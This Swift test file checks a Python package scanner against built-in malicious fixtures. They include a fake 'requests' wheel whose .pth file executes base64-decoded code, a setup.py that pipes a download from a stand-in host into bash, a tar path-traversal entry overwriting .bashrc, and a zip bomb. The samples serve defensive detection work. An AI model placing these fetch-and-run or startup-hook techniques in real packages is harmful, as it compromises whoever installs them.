import AlterTestSupport
import Foundation
import Testing

@testable import AlterKit

/// Whole artifacts as bytes: wheels (zip) and sdists (tar.gz) built by the tests, read without extraction.
@Suite struct ArtifactReaderTests {
    static func maliciousWheel() -> ArtifactBuilder {
        var b = ArtifactBuilder(name: "requests", version: "2.99.0")
        b.add("requests/__init__.py", "from .api import get\n")
        b.add("requests/api.py", "def get(url):\n    return url\n")
        b.add("requests-init.pth", "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n")
        return b
    }

    @Test func wheelBytesWithPthPayloadAreCritical() throws {
        let b = Self.maliciousWheel()
        let r = try ArtifactReader.inspect(data: b.wheelData(), name: b.wheelFileName)
        #expect(r.format == .wheel)
        #expect(r.complete)
        #expect(r.project == "requests")
        #expect(r.findings.first?.severity == .critical)
        #expect(r.findings.contains { $0.kind == .pthCode && $0.severity == .critical })
        #expect(r.findings.contains { $0.kind == .execDecoded && $0.file == "requests-init.pth" })
        // The decoded payload itself was read: it runs a process at interpreter start.
        #expect(r.findings.contains { $0.kind == .process && $0.evidence.contains("decoded payload") })
    }

    @Test func sdistBytesWithInstallTimeDownloadAreCritical() throws {
        var b = ArtifactBuilder(name: "evilpkg", version: "0.1")
        b.add(
            "setup.py",
            "import os\nos.system('curl -fsSL https://x.invalid/i.sh | bash')\nfrom setuptools import setup\nsetup()\n")
        b.add("evilpkg/__init__.py", "")
        let r = try ArtifactReader.inspect(data: b.sdistData(), name: b.sdistFileName)
        #expect(r.format == .sdist)
        let p = r.findings.first
        #expect(p?.kind == .process)
        #expect(p?.severity == .critical)
        #expect(p?.location == "evilpkg-0.1/setup.py:2")
    }

    @Test func benignWheelFromBytesIsClean() throws {
        var b = ArtifactBuilder(name: "fine")
        b.add("fine/__init__.py", "import subprocess\ndef run():\n    return subprocess.run(['true'])\n")
        b.add("fine.pth", "fine_extra\n")
        let r = try ArtifactReader.inspect(data: b.wheelData(), name: b.wheelFileName)
        #expect(r.findings.isEmpty, "\(r.findings)")
        #expect(r.fileCount == 5)
    }

    @Test func zipBombIsACriticalFindingNotACrash() throws {
        var zip = ZipBuilder()
        zip.add("bomb/__init__.py", text: "")
        zip.add("bomb/zeros.bin", Data(count: 8 << 20))
        let r = try ArtifactReader.inspect(data: zip.build(), name: "bomb-1.0-py3-none-any.whl")
        #expect(!r.complete)
        #expect(r.findings.first?.kind == .archiveLimit)
        #expect(r.findings.first?.severity == .critical)
        #expect(r.findings.first?.evidence.contains("bomb") == true)
    }

    @Test func tarPathTraversalIsCritical() throws {
        var tar = TarBuilder()
        tar.addFile("pkg-1.0/setup.py", text: "from setuptools import setup\nsetup()\n")
        tar.addFile("pkg-1.0/../../../home/user/.bashrc", text: "curl x | sh\n")
        let r = try ArtifactReader.inspect(data: tar.build(gzip: true), name: "pkg-1.0.tar.gz")
        #expect(!r.complete)
        #expect(r.findings.first { $0.kind == .archiveLimit }?.severity == .critical)
        #expect(r.findings.first { $0.kind == .archiveLimit }?.evidence.contains("unsafe path") == true)
    }

    @Test func corruptArchiveIsAnErrorNotClean() {
        var data = Data("PK\u{03}\u{04}".utf8)
        data.append(Data(repeating: 0x41, count: 100))
        #expect(throws: ArchiveError.self) { try ArtifactReader.inspect(data: data, name: "x-1.0-py3-none-any.whl") }
        #expect(throws: InspectError.unknownFormat("notes.txt")) {
            try ArtifactReader.inspect(data: Data("hello".utf8), name: "notes.txt")
        }
    }

    @Test func inspectsAFileOnDisk() throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let b = Self.maliciousWheel()
        let path = dir.appendingPathComponent(b.wheelFileName).path
        try b.wheelData().write(to: URL(fileURLWithPath: path))
        let r = try ArtifactReader.inspect(path: path, sha256: "abc")
        #expect(r.hasCritical)
        #expect(r.sha256 == "abc")
        #expect(r.artifact == b.wheelFileName)
        #expect(throws: InspectError.self) {
            try ArtifactReader.inspect(path: dir.appendingPathComponent("missing.whl").path)
        }
    }
}
